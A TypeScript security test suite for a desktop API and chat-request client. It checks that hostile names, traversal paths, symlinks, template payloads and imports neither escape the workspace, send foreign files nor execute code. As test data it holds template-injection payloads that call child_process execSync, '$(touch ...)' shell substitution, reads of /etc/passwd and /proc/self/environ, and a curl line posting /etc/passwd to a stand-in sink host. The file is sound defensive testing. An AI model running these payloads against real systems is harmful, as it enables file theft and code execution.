import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { link, mkdir, open, readdir, readFile, realpath, rename, rm, symlink, writeFile } from 'node:fs/promises';
import net from 'node:net';
import { join, relative } from 'node:path';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { writeBeside } from '../../electron/core/export/write-beside.ts';
import { createFileAccess } from '../../electron/core/files/file-access.ts';
import { createFileLibrary } from '../../electron/core/files/file-library.ts';
import { createSentBody } from '../../electron/core/files/sent-body.ts';
import type * as Writer from '../../electron/core/files/write-file-atomic.ts';
import { createHttpClient } from '../../electron/core/http/client.ts';
import { applyPlan } from '../../electron/core/import/apply-plan.ts';
import { dispositionName } from '../../electron/core/media/content-disposition.ts';
import { mediaFileName } from '../../electron/core/media/media-file-name.ts';
import { saveMediaInto } from '../../electron/core/media/save-media.ts';
import { foldName, uniqueName } from '../../electron/core/workspace/file-name.ts';
import { createSampleWorkspace } from '../../electron/core/workspace/sample-workspace.ts';
import { openWorkspace, type Workspace } from '../../electron/core/workspace/workspace.ts';
import { fileName } from '../../shared/export/file-name.ts';
import type { ImportFile } from '../../shared/import/import-format.ts';
import { readImport } from '../../shared/import/read-import.ts';
import { planImport } from '../../shared/import/to-workspace.ts';
import { AppError } from '../../shared/ipc/result.ts';
import type { MediaItem } from '../../shared/model/media.ts';
import type * as Interpolate from '../../shared/variables/interpolate.ts';
import { launchApp } from '../support/app-driver.ts';
import { runCli } from '../support/cli-run.ts';
import { partsOf } from '../support/e2e-window.ts';
import { chatDraft } from '../support/history-runs.ts';
import { startLoopbackServer } from '../support/loopback-server.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { call } from '../support/window-bridge.ts';
import { loadWithFault } from './support/fault.ts';
import { recordFigure, rounds } from './support/gate.ts';
import { naughtyNames } from './support/naughty-names.ts';

const GATE = 'path-escapes';
/** Names in one folder, as many as people put there. */
const PER_FOLDER = 250;
const WINDOWS_TROUBLE =
  /[<>:"|?*\\\p{Cc}]|[. ]$|^(con|prn|aux|nul|conin\$|conout\$|clock\$|com[\d¹²³]|lpt[\d¹²³])\s*(\.|$)/iu;

let root: string;
let outside: string;
let workspace: Workspace;

beforeEach(async () => {
  const folder = await temporaryFolder();
  root = join(folder, 'workspace');
  outside = join(folder, 'outside');
  await mkdir(outside);
  await writeFile(join(outside, 'mine.txt'), 'mine');
  await createSampleWorkspace(root);
  workspace = await openWorkspace(root);
});

/** Whatever is wrong with what stands below a folder: outside of it, a trouble to some system, one with another. */
async function troublesBelow(folder: string): Promise<string[]> {
  const troubles: string[] = [];
  const folded = new Map<string, string>();
  for (const entry of await readdir(folder, { recursive: true, withFileTypes: true })) {
    const path = join(entry.parentPath, entry.name);
    const way = relative(folder, path);
    if (!(await realpath(path)).startsWith(`${folder}/`)) troubles.push(`leaves: ${way}`);
    if (Buffer.byteLength(entry.name) > 255 || WINDOWS_TROUBLE.test(entry.name)) troubles.push(`trouble: ${way}`);
    if (entry.name !== entry.name.normalize('NFC')) troubles.push(`not composed: ${way}`);
    const other = folded.get(foldName(way));
    if (other !== undefined) troubles.push(`the same for some system: ${way} and ${other}`);
    folded.set(foldName(way), way);
  }
  const around = await readdir(join(folder, '..'));
  if (around.sort().join() !== 'outside,workspace') troubles.push(`beside: ${around}`);
  if ((await readdir(outside)).join() !== 'mine.txt') troubles.push(`outside: ${await readdir(outside)}`);
  return troubles;
}

describe('names that users and other programs give', () => {
  it('10,000 of them make file names that differ for every system', () => {
    const names = naughtyNames(10_000);
    const troubles: string[] = [];
    for (let start = 0; start < names.length; start += PER_FOLDER) {
      const neighbours: string[] = [];
      for (const name of names.slice(start, start + PER_FOLDER)) {
        const file = uniqueName(name, '.yml', neighbours);
        if (file.includes('/') || file.startsWith('.') || WINDOWS_TROUBLE.test(file) || Buffer.byteLength(file) > 200) {
          troubles.push(`${JSON.stringify(name)}: ${file}`);
        }
        neighbours.push(file);
      }
      expect(new Set(neighbours.map(foldName)).size).toBe(neighbours.length);
    }
    expect(troubles).toEqual([]);
    recordFigure(GATE, 'names made into file names', names.length);
  });

  it('requests, folders, environments and connections of any name stay inside and keep it', async () => {
    const names = naughtyNames(rounds(400, 10_000));
    const wrong: string[] = [];
    for (const [index, name] of names.entries()) {
      const parent = `collections/part-${Math.floor(index / PER_FOLDER)}`;
      if (index % PER_FOLDER === 0)
        await workspace.changeTree((tree) => tree.createFolder('collections', parent.slice(12)));
      const kept = { sidecall: 2 as const, info: { name } };
      try {
        const { path } = await workspace.createRequest(parent, chatDraft('Hi', { info: { name } }));
        if ((await workspace.readRequest(path)).draft.info.name !== name) wrong.push(`request ${JSON.stringify(name)}`);
        if (index % 4 === 0) {
          const folder = await workspace.changeTree((tree) => tree.createFolder(parent, name));
          if ((await workspace.readFolder(folder.path)).settings.info?.name !== name)
            wrong.push(`folder ${JSON.stringify(name)}`);
          const renamed = await workspace.changeTree((tree) => tree.rename(path, `${name}/..`));
          if ((await workspace.readRequest(renamed.path)).draft.info.name !== `${name}/..`)
            wrong.push(`renamed ${JSON.stringify(name)}`);
        }
        if (index % 8 === 0 && index < 2_000) {
          const { id } = await workspace.saveEnvironment(null, { ...kept, variables: [] });
          if ((await workspace.readEnvironment(id)).environment.info.name !== name) wrong.push(`environment ${name}`);
          const connection = { ...kept, provider: 'openai-compatible', baseUrl: 'x', auth: { type: 'none' as const } };
          const made = await workspace.saveConnection(null, connection);
          if ((await workspace.readConnection(made.id)).connection.info.name !== name) wrong.push(`connection ${name}`);
        }
      } catch (error) {
        wrong.push(`${JSON.stringify(name)}: ${error}`);
      }
    }
    expect(wrong).toEqual([]);
    expect(await troublesBelow(root)).toEqual([]);
    recordFigure(GATE, 'names written to disk and read back', names.length);
  });

  /** The same hostile names in the form of each program. */
  function importsOf(names: readonly string[]): Record<string, ImportFile[]> {
    const schema = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
    const request = { method: 'GET', url: 'https://h.example/x' };
    const json = (name: string, value: unknown): ImportFile[] => [{ name, text: JSON.stringify(value) }];
    const folderOf = (name: string) => ({ name, item: [{ name, request }] });
    const resources = names.flatMap((name, index) => [
      { _id: `fld_${index}`, _type: 'request_group', parentId: 'wrk', name },
      {
        _id: `req_${index}`,
        _type: 'request',
        parentId: `fld_${index}`,
        name,
        url: 'https://h.example',
        method: 'GET',
      },
      { _id: `env_${index}`, _type: 'environment', parentId: 'wrk', name, data: { a: '1' } },
    ]);
    const paths = Object.fromEntries(
      names.map((name, index) => [`/p${index}`, { get: { summary: name, operationId: name, tags: [name] } }]),
    );
    const entries = names.map((name) => ({
      request: { ...request, url: `https://h.example/${name}`, headers: [] },
      comment: name,
    }));
    const plain = (name: string) => name.replace(/[\n\r]/g, ' ');
    return {
      Postman: json('c.json', { info: { name: '..', schema }, item: names.map(folderOf) }),
      Insomnia: json('i.json', {
        _type: 'export',
        __export_format: 4,
        resources: [
          { _id: 'wrk', _type: 'workspace', parentId: null, name: '../..', scope: 'collection' },
          ...resources,
        ],
      }),
      Bruno: names.map((name, index) => ({
        name: `${plain(name)}/../../${index}.bru`,
        text: `meta {\n  name: ${plain(name)}\n  type: http\n  seq: ${index}\n}\n\nget {\n  url: https://h.example\n  body: none\n  auth: none\n}\n`,
      })),
      OpenAPI: json('o.json', {
        openapi: '3.1.0',
        info: { title: '../x', version: '1' },
        servers: [{ url: 'https://h.example' }],
        paths,
      }),
      HAR: json('h.har', { log: { version: '1.2', creator: { name: '..', version: '1' }, entries } }),
    };
  }

  it('imports of any program write nothing outside, and nothing of theirs is lost', async () => {
    const names = naughtyNames(rounds(60, 1_200));
    let imported = 0;
    for (let start = 0; start < names.length; start += 60) {
      for (const [program, files] of Object.entries(importsOf(names.slice(start, start + 60)))) {
        const folder = await workspace.changeTree((tree) => tree.createFolder('collections', `${program} ${start}`));
        const { document } = readImport('auto', files);
        const plan = planImport(document, 'Imported');
        const rest = { vault: null, requests: null, hasEnvironments: true, resolveBaseUrl: (url: string) => url };
        const applied = await applyPlan(plan, { workspace, folderPath: folder.path, ...rest });
        expect(applied.requestPaths.length, program).toBe(plan.requests.length);
        expect(plan.requests.length, program).toBeGreaterThan(40);
        imported += applied.requestPaths.length;
      }
    }
    expect(await troublesBelow(root)).toEqual([]);
    expect((await workspace.read()).problems).toEqual([]);
    recordFigure(GATE, 'requests of hostile names imported', imported);
  });

  it('media, downloads, exports and files that are taken in get names of their own, inside', async () => {
    const names = naughtyNames(rounds(400, 5_000));
    const source = join(outside, 'mine.txt');
    const [media, taken, exported] = ['media', 'files', 'exported'].map((name) => join(root, name)) as [
      string,
      string,
      string,
    ];
    await mkdir(exported);
    for (const name of names) {
      for (const label of [name, dispositionName(`attachment; filename="${name}"`) ?? undefined]) {
        const item = { id: name, kind: 'image', mediaType: 'image/png', state: 'stored', ...(label && { label }) };
        const saved = mediaFileName(item as MediaItem);
        expect(saved).not.toMatch(/[/\\]/);
        expect(WINDOWS_TROUBLE.test(saved), JSON.stringify([name, saved])).toBe(false);
      }
    }
    for (const name of names.slice(0, 400)) {
      await saveMediaInto(media, {
        item: { id: name, kind: 'file', mediaType: 'text/plain', label: name } as MediaItem,
        path: source,
      });
      await writeBeside(join(exported, 'collection.json'), [{ name: fileName(name, '.json'), text: name }], 0o644);
    }
    expect(await readdir(media)).toHaveLength(400);
    expect(await readdir(exported)).toHaveLength(400);
    // A real file can have most of these names: it is copied into the workspace by them.
    const chosen = await temporaryFolder();
    let copied = 0;
    for (const name of names.slice(0, 400).filter((one) => !/[/\0]/.test(one) && !['', '.', '..'].includes(one))) {
      const path = join(chosen, name);
      if ((await writeFile(path, name).catch(() => null)) === null) continue;
      const grants = [{ path, realPath: await realpath(path) }];
      const library = createFileLibrary(async () => root, { read: () => grants, write: () => undefined });
      const facts = await library.copyIn(path).catch(() => null);
      if (facts !== null) copied += 1;
    }
    expect(copied).toBeGreaterThan(100);
    expect(await readdir(taken)).toHaveLength(copied);
    expect(await troublesBelow(root)).toEqual([]);
  });

  it('environments beside an export of the command line replace no file', async () => {
    for (const name of ['Same', 'Same', 'CON', '../x'])
      await workspace.saveEnvironment(null, { sidecall: 2, info: { name }, variables: [{ name: 'a', value: name }] });
    const folder = await temporaryFolder();
    const run = await runCli(['export', 'postman', root, '--out', join(folder, 'c.json')]);
    expect(run.code, run.stderr).toBe(0);
    const first = await readdir(folder);
    expect(first.filter((name) => /^Same/.test(name))).toHaveLength(2);
    expect(first.filter((name) => WINDOWS_TROUBLE.test(name))).toEqual([]);
  });

  it('control: titles as file names lead out, clash and are devices', () => {
    const names = naughtyNames(2_000);
    const asTheyAre = names.map((name) => `${name}.yml`);
    expect(asTheyAre.some((name) => join('/w/collections', name).startsWith('/w/collections/') === false)).toBe(true);
    expect(asTheyAre.some((name) => WINDOWS_TROUBLE.test(name))).toBe(true);
    expect(new Set(asTheyAre.map(foldName)).size).toBeLessThan(asTheyAre.length);
  });
});

/** Ways of writing a path that leads, or might lead, out of the workspace. */
const HOSTILE_PATHS = [
  ...['../x.yml', 'collections/../../outside/x.yml', 'collections/./x.yml', 'collections//x.yml', '/etc/x.yml', ''],
  ...['collections\\..\\..\\x.yml', '..\\x.yml', 'C:\\x.yml', 'c:x.yml', '\\\\host\\s\\x.yml', '//host/s/x.yml'],
  ...[
    'collections/a\0.yml',
    'collections/link/x.yml',
    'collections/link',
    'collections/file-link.yml',
    'collections/dangling.yml',
  ],
];

describe('paths that the window names', () => {
  it('lead nowhere outside, whatever is asked', async () => {
    await symlink(outside, join(root, 'collections/link'));
    await symlink(join(outside, 'mine.txt'), join(root, 'collections/file-link.yml'));
    await symlink(join(outside, 'made.yml'), join(root, 'collections/dangling.yml'));
    const draft = chatDraft('Hi');
    const settings = { info: { name: 'x' } };
    const asked: Record<string, (path: string) => Promise<unknown>> = {
      readRequest: (path) => workspace.readRequest(path),
      saveRequest: (path) => workspace.saveRequest(path, draft, null),
      compareRequest: (path) => workspace.compareRequest(path, draft),
      createRequest: (path) => workspace.createRequest(path, draft),
      createFolder: (path) => workspace.changeTree((tree) => tree.createFolder(path, 'x')),
      moveInto: (path) => workspace.changeTree((tree) => tree.move(['collections/samples/hello.yml'], path, null)),
      copyInto: (path) =>
        workspace.changeTree((tree) => tree.copy(['collections/samples/hello.yml'], path, null, 'copy')),
      readFolder: (path) => workspace.readFolder(path),
      saveFolder: (path) => workspace.saveFolder(path, settings, null),
      arrangeFolder: (path) => workspace.arrangeFolder(path, []),
      readConnection: (path) => workspace.readConnection(path),
      saveConnection: (path) =>
        workspace.saveConnection(`../${path}`, {
          sidecall: 2,
          ...settings,
          provider: 'x',
          baseUrl: '',
          auth: { type: 'none' },
        }),
      saveEnvironment: (path) => workspace.saveEnvironment(`../${path}`, { sidecall: 2, ...settings, variables: [] }),
    };
    const allowed: string[] = [];
    for (const path of HOSTILE_PATHS) {
      for (const [name, ask] of Object.entries(asked)) {
        const refused = await ask(path).then(
          () => null,
          (error: unknown) => error,
        );
        if (!(refused instanceof AppError)) allowed.push(`${name} ${JSON.stringify(path)}: ${refused ?? 'done'}`);
      }
    }
    expect(allowed).toEqual([]);
    expect(await readdir(outside)).toEqual(['mine.txt']);
    expect(await readFile(join(outside, 'mine.txt'), 'utf8')).toBe('mine');
    expect((await readdir(join(root, '..'))).sort()).toEqual(['outside', 'workspace']);
    const { problems } = await workspace.read();
    expect(problems.map(({ path }) => path)).toContain('collections/link');
  });

  /** What a save leaves outside when its folder becomes a link at a moment of its. */
  async function leftOutside({ writeFileAtomic }: typeof Writer, moment: 'open' | 'rename'): Promise<string[]> {
    const folder = join(root, 'collections/samples');
    const swap = async () => {
      await rename(folder, `${folder}-moved`);
      await symlink(outside, folder);
    };
    const operations: Partial<Writer.FileOperations> = {
      link,
      async open(path, flags, mode) {
        if (moment === 'open' && flags === 'wx') await swap();
        return open(path, flags, mode);
      },
      async rename(from, to) {
        if (moment === 'rename') await swap();
        await rename(from, to);
      },
    };
    const saved = writeFileAtomic(join(folder, 'mine.txt'), 'theirs', { isReal: true, operations });
    await expect(
      saved.then(
        () => 'saved',
        () => 'refused',
      ),
    ).resolves.toBeTruthy();
    const left = await readdir(outside);
    return (await readFile(join(outside, 'mine.txt'), 'utf8')) === 'mine'
      ? left.filter((name) => name !== 'mine.txt')
      : ['mine.txt'];
  }

  it.each(['open', 'rename'] as const)(
    'a folder that becomes a link right before the %s of a save leads it nowhere',
    async (moment) => {
      expect(await leftOutside(await import('../../electron/core/files/write-file-atomic.ts'), moment)).toEqual([]);
    },
  );

  it('control: without a second look at the way, the save goes where the link leads', async () => {
    const file = 'electron/core/files/write-file-atomic.ts';
    const faulty = await loadWithFault<typeof Writer>(file, [
      { file, find: 'if (isReal) await requireReal(path, file);', replace: '' },
    ]);
    expect(await leftOutside(faulty, 'open')).toEqual(['mine.txt']);
  });
});

/** Files that a request of somebody else's names, to have them sent. */
async function hostileFiles(): Promise<string[]> {
  await symlink(join(outside, 'mine.txt'), join(root, 'link.png'));
  await symlink(outside, join(root, 'folder-link'));
  await symlink('/dev/zero', join(root, 'zero.png'));
  spawnSync('mkfifo', [join(root, 'pipe.png')]);
  await writeFile(join(root, '.env'), 'KEY=1');
  return [
    ...[
      '../outside/mine.txt',
      'collections/../../outside/mine.txt',
      '..\\outside\\mine.txt',
      '%2e%2e/outside/mine.txt',
    ],
    ...[
      join(outside, 'mine.txt'),
      '/etc/passwd',
      '/proc/self/environ',
      '/dev/zero',
      '//host/share/x.png',
      '\\\\host\\share\\x.png',
    ],
    ...[
      'C:\\Windows\\win.ini',
      'c:x',
      'link.png',
      'folder-link/mine.txt',
      'zero.png',
      'pipe.png',
      '.env',
      'collections',
      'a\0b',
    ],
    ...['///etc/passwd', '//localhost/etc/passwd', `//${join(outside, 'mine.txt')}`],
  ];
}

describe('files that a request names', () => {
  it('are not sent: the server receives no byte, whatever the way that they are named', async () => {
    const server = await startLoopbackServer((_request, response) => response.end('{}'));
    const access = createFileAccess({ rootPath: async () => root, grants: () => [] });
    const client = createHttpClient({ openBody: (request) => createSentBody(request, access) });
    try {
      const sent: string[] = [];
      const paths = await hostileFiles();
      for (const path of paths) {
        for (const form of ['bytes', 'base64'] as const) {
          const request = {
            method: 'POST',
            url: `${server.origin}/x`,
            headers: [] as [string, string][],
            body: 'ab',
            files: [{ at: 1, path, form }],
          };
          const { done } = client.send(request as never, { handlers: {}, timeouts: {} } as never);
          const outcome = await Promise.race([
            done,
            new Promise<null>((resolve) => setTimeout(() => resolve(null), 4_000)),
          ]).catch((error: unknown) => ({ error }));
          if (outcome === null) sent.push(`${JSON.stringify(path)} keeps the app waiting`);
          else if (outcome.error === null) sent.push(JSON.stringify(path));
        }
      }
      expect(sent).toEqual([]);
      expect([server.connections, server.seen]).toEqual([0, []]);
      recordFigure(GATE, 'ways to name a foreign file, none of them sent', paths.length);
    } finally {
      await client.close();
      await server.close();
    }
  });

  it('are named by the command line as what it did not send', async () => {
    const server = await startLoopbackServer((_request, response) => response.end('{}'));
    try {
      await hostileFiles();
      const auth = { type: 'none' as const };
      const { id } = await workspace.saveConnection(null, {
        sidecall: 2,
        info: { name: 'Sink' },
        provider: 'openai-compatible',
        baseUrl: server.origin,
        auth,
      });
      for (const path of ['../outside/mine.txt', 'link.png', '/etc/passwd', 'pipe.png']) {
        const content = [{ type: 'image_url', image_url: { url: `file:${path}` } }];
        const body = { model: 'm', messages: [{ role: 'user', content }] };
        const made = await workspace.createRequest('collections', { ...chatDraft('Hi'), connection: id, body });
        const run = await runCli(['send', join(root, made.path)]);
        expect(run.code, path).not.toBe(0);
        expect(run.stderr, path).toMatch(/outside the workspace|not a path inside|no plain file/);
        expect(run.stderr).toContain(path.split('/').at(-1));
      }
      expect([server.connections, server.seen]).toEqual([0, []]);
    } finally {
      await server.close();
    }
  });

  it('control: a file of the workspace is sent', async () => {
    const server = await startLoopbackServer((_request, response) => response.end('{}'));
    const access = createFileAccess({ rootPath: async () => root, grants: () => [] });
    const client = createHttpClient({ openBody: (request) => createSentBody(request, access) });
    await writeFile(join(root, 'cat.txt'), 'cat');
    const request = {
      method: 'POST',
      url: `${server.origin}/x`,
      headers: [],
      body: 'ab',
      files: [{ at: 1, path: 'cat.txt', form: 'bytes' }],
    };
    await client.send(request as never, { handlers: {}, timeouts: {} } as never).done;
    expect(server.seen[0]?.body).toBe('acatb');
    await client.close();
    await server.close();
  });
});

describe('templates that other programs would run', () => {
  const MARKER = '/tmp/sidecall-marker-of-a-template';
  const PAYLOADS = [
    `{{range.constructor("return process.mainModule.require('fs').writeFileSync('${MARKER}','')")()}}`,
    `{{ [].constructor.constructor("return process")().mainModule.require('child_process').execSync('touch ${MARKER}') }}`,
    `{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}`,
    `{{constructor}} {{__proto__}} {{toString}} {{hasOwnProperty}} {{__proto__.polluted}}`,
    `\${require('fs').writeFileSync('${MARKER}', '')} <%= global.process %> #{7*7} {{7*7}} \`touch ${MARKER}\` $(touch ${MARKER})`,
    `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1')}}`,
  ];

  afterAll(() => rm(MARKER, { force: true }));

  /** What a template did besides standing there as text. */
  function doings({ interpolate }: typeof Interpolate): string[] {
    const own = Object.getOwnPropertyNames(Object.prototype).join();
    const doings: string[] = [];
    for (const payload of PAYLOADS) {
      const { text } = interpolate(payload, [
        { source: 'request', label: 'r', variables: new Map([['known', '{{constructor}}']]) },
      ]);
      if (text !== payload) doings.push(`${payload} became ${text}`);
    }
    if (existsSync(MARKER)) doings.push('a file was made');
    if (Object.getOwnPropertyNames(Object.prototype).join() !== own) doings.push('prototypes were changed');
    return doings;
  }

  it('stand as the text that they are, in requests, imports and files', async () => {
    expect(doings(await import('../../shared/variables/interpolate.ts'))).toEqual([]);
    const schema = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
    const event = [{ listen: 'prerequest', script: { exec: [`require('fs').writeFileSync('${MARKER}','')`] } }];
    const item = PAYLOADS.map((text) => ({
      name: text,
      event,
      request: { method: 'POST', url: `https://h.example/${text}`, body: { mode: 'raw', raw: text } },
    }));
    const { document } = readImport('auto', [
      { name: 'c.json', text: JSON.stringify({ info: { name: 'x', schema }, event, item }) },
    ]);
    const rest = { vault: null, requests: null, hasEnvironments: true, resolveBaseUrl: (url: string) => url };
    const applied = await applyPlan(planImport(document, 'Imported'), {
      workspace,
      folderPath: 'collections',
      ...rest,
    });
    const titles = await Promise.all(
      applied.requestPaths.map(async (path) => (await workspace.readRequest(path)).draft.info.name),
    );
    expect(titles).toEqual(PAYLOADS);
    expect(existsSync(MARKER)).toBe(false);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });

  it('control: a substitution that evaluates is found out', async () => {
    const file = 'shared/variables/interpolate.ts';
    const faulty = await loadWithFault<typeof Interpolate>(file, [
      {
        file,
        find: '      if (!isVariableName(name)) return placeholder;\n      const scope = scopes.find',
        replace:
          "      if (!isVariableName(name)) { try { return String(new Function('return ' + inner)()); } catch { return placeholder; } }\n      const scope = scopes.find",
      },
    ]);
    expect(doings(faulty)).not.toEqual([]);
    await rm(MARKER, { force: true });
  });
});

describe('opening and importing', () => {
  /** Addresses that were called, or looked up, while something was done. */
  async function contactsDuring(work: () => Promise<unknown>): Promise<string[]> {
    const contacts: string[] = [];
    const { connect } = net.Socket.prototype;
    net.Socket.prototype.connect = function spied(this: net.Socket, ...input: unknown[]) {
      contacts.push(JSON.stringify(input[0]));
      return Reflect.apply(connect, this, input) as net.Socket;
    } as typeof connect;
    try {
      await work();
    } finally {
      net.Socket.prototype.connect = connect;
    }
    return contacts;
  }

  it('send nothing and look nothing up', async () => {
    const url = 'https://sink.invalid/x';
    const schema = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
    const spec = {
      openapi: '3.1.0',
      info: { title: 'x', version: '1' },
      servers: [{ url }],
      paths: { '/a': { get: { responses: { 200: { $ref: 'https://sink.invalid/ref.json' } } } } },
    };
    const files: ImportFile[][] = [
      [
        {
          name: 'c.json',
          text: JSON.stringify({ info: { name: 'x', schema }, item: [{ name: 'a', request: { method: 'GET', url } }] }),
        },
      ],
      [{ name: 'o.json', text: JSON.stringify(spec) }],
      [{ name: '', text: `curl ${url} -d @/etc/passwd --next ${url}` }],
    ];
    const contacts = await contactsDuring(async () => {
      for (const texts of files) {
        const { document } = readImport('auto', texts);
        const rest = { vault: null, requests: null, hasEnvironments: true, resolveBaseUrl: (base: string) => base };
        await applyPlan(planImport(document, 'Imported'), { workspace, folderPath: 'collections', ...rest });
      }
      await (await openWorkspace(root)).read();
    });
    expect(contacts).toEqual([]);
  });

  it('control: a call is seen', async () => {
    const contacts = await contactsDuring(() => fetch('http://127.0.0.1:4/').catch(() => null));
    expect(contacts.length).toBeGreaterThan(0);
  });

  it('in the app sends nothing, and a request that names a foreign file says what was not sent', async () => {
    const server = await startLoopbackServer((_request, response) => response.end('{}'));
    const auth = { type: 'none' as const };
    const { id } = await workspace.saveConnection(null, {
      sidecall: 2,
      info: { name: 'Sink' },
      provider: 'openai-compatible',
      baseUrl: server.origin,
      auth,
    });
    const content = [
      { type: 'text', text: 'See' },
      { type: 'image_url', image_url: { url: 'file:../outside/mine.txt' } },
    ];
    const docs = `![a](${server.origin}/a.png) <img src="${server.origin}/b.png">`;
    await workspace.createRequest('collections', {
      ...chatDraft('Hi', { info: { name: 'Leaky' }, docs }),
      connection: id,
      body: { model: 'm', messages: [{ role: 'user', content }] },
    });
    const driver = await launchApp({ workspacePath: root, userDataPath: join(await temporaryFolder(), 'profile') });
    try {
      const { page } = driver;
      await partsOf(page).open('Leaky');
      const schema = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
      const text = JSON.stringify({
        info: { name: 'x', schema },
        item: [{ name: 'a', request: { method: 'GET', url: `${server.origin}/c` } }],
      });
      await call(page, 'import.preview', { text } as never).catch(() => null);
      await new Promise((resolve) => setTimeout(resolve, rounds(2_000, 5_000)));
      expect(server.connections).toBe(0);
      await page.keyboard.press('ControlOrMeta+Enter');
      await page
        .getByText(/not a path inside this workspace|outside the workspace/)
        .first()
        .waitFor();
      expect([server.connections, server.seen]).toEqual([0, []]);
    } finally {
      await driver.close();
      await server.close();
    }
  });
});
